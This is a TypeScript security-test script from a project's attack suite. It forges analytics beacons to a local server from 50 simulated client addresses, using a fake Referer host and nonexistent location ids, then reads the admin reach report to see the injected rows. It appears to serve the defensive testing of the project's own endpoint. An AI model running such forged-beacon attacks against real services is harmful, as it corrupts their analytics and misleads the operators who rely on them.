/**
 * Forged reach: script-player beacons made by hand from 50 loopback source addresses (each its own client to a
 * server that trusts no proxy):
 *   1. a hand-set Referer naming a host that never embedded the player (forged-host.example), for a real location;
 *   2. location ids that do not exist (fake-location-0 ... 49), which made rows for places the catalog lacks.
 * Then the admin's reach report (read with ADMIN_TOKEN) says what they added.
 * Run: TARGET=http://127.0.0.1:4310 ADMIN_TOKEN=... npx tsx ops/security/attacks/forged-reach.ts
 */
import { type Answer, adminGet, BROWSER_UA, clientAddress, send, statuses, waitForFlush } from "../attack-client";

const READERS = 50;
const FORGED_HOST = "forged-host.example";

const beacon = (from: string, payload: object, referer?: string) =>
  send("POST", "/api/reach", {
    from,
    headers: { "content-type": "text/plain", "user-agent": BROWSER_UA, ...(referer ? { referer } : {}) },
    body: JSON.stringify(payload),
  });

const locations = JSON.parse((await send("GET", "/api/locations")).body) as
  | { id: string }[]
  | { items: { id: string }[] };
const list = Array.isArray(locations) ? locations : locations.items;
const real = list[0]?.id;
if (!real) throw new Error("The target lists no location");

const hosted: Answer[] = [];
for (let i = 0; i < READERS; i++) {
  for (const e of ["l", "p"]) {
    hosted.push(
      await beacon(clientAddress(i), { p: "s", e, l: real, h: FORGED_HOST }, `https://${FORGED_HOST}/post/${i}`),
    );
  }
}
console.log(`hand-set Referer ${FORGED_HOST}, location ${real}: ${READERS} x (load + play): ${statuses(hosted)}`);

const unknown: Answer[] = [];
for (let i = 0; i < READERS; i++) {
  unknown.push(
    await beacon(
      clientAddress(100 + i),
      { p: "s", e: "l", l: `fakeLocation${i}`, h: "other.example" },
      "https://other.example/",
    ),
  );
}
console.log(`unknown location ids fakeLocation0..${READERS - 1}: ${statuses(unknown)}`);

await waitForFlush();
const report = (await adminGet("/api/admin/reach")) as { hosts: Record<string, unknown>[]; totals: unknown };
console.log("\nThe admin's reach report (last 30 days):");
console.log("totals", JSON.stringify(report.totals));
for (const host of [FORGED_HOST, "other.example", "(unverified)"]) {
  console.log(host.padEnd(20), JSON.stringify(report.hosts.find((h) => h.host === host) ?? "no row"));
}
